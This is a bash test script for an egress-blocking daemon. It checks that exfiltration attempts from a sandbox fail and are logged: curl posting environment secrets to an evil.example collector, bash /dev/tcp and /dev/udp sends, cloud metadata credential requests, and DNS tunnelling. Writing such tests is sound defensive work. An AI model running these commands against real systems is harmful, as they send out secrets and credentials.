#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-or-later
# What the project is for, with the tools an attacker finds everywhere: curl
# and bash. The one allowed service works; the environment does not leave.
. "${0%/*}/../lib/world.sh"
world_enter "$0" "$@"
. "$WORLD_LIB/rules.sh"
world_start
must "egressd starts" daemon_start
must "a lease" lease a --policy demo --run r1
export AWS_SECRET_ACCESS_KEY=hunter2-of-the-run

check "the allowed call works" eq \
	"$(fetch a https://app.demo.example/)" "hello from app:443"
post() { env | run a curl -sS -m 5 -k --data-binary @- "$@"; }
check "curl posting the environment by name fails within a second" \
	within 1000 not post https://collector.evil.example/
check "  it failed by name" denied a layer=dns reason=dns-denied \
	qname=collector.evil.example
check "curl by address fails within a second" \
	within 1000 not post https://203.0.113.66/
check "  it is in the log by address" denied a layer=packet \
	reason=not-allowed dst=203.0.113.66 dport=443
check "curl with the name given away fails" not run a curl -sS -m 5 -k \
	--resolve collector.evil.example:443:203.0.113.66 -d x \
	https://collector.evil.example/
check "bash /dev/tcp fails" not run a timeout 5 bash -c \
	'exec 3<>/dev/tcp/203.0.113.66/80 && env >&3'
check "  and is in the log" denied a dst=203.0.113.66 dport=80 proto=tcp
check "bash /dev/udp sends nothing" run a bash -c \
	'env >/dev/udp/203.0.113.66/4444 2>/dev/null; exit 0'
check "  and is in the log" denied a dst=203.0.113.66 dport=4444 proto=udp
check "the metadata service by curl fails" not run a curl -sS -m 5 \
	http://169.254.169.254/latest/meta-data/iam/security-credentials/
check "  by its name, too" not run a curl -sS -m 5 \
	http://metadata.google.internal/computeMetadata/v1/
check "a tunnel through names carries nothing" sh -c "
	for i in 1 2 3; do '$EGRESSCTL' --socket $API exec a -- \
		$EG dig 203.0.113.8 aHVudGVyMg\$i.t.evil.example TXT; done |
	sort -u | grep -qx NXDOMAIN"
check "the collector got nothing" not served collector
check "the metadata service got nothing" not served metadata
check "the public resolver got nothing" not served resolver
check "the resolver was not asked about it either" not grep -q evil $W/unbound.log
check "no packet went to the collector" not wire_saw 203.0.113.66
check "every record has its packet" $EG evidence "$(of a audit)"
check "the allowed call still works" eq \
	"$(fetch a https://app.demo.example/)" "hello from app:443"
daemon_stop TERM
world_finish
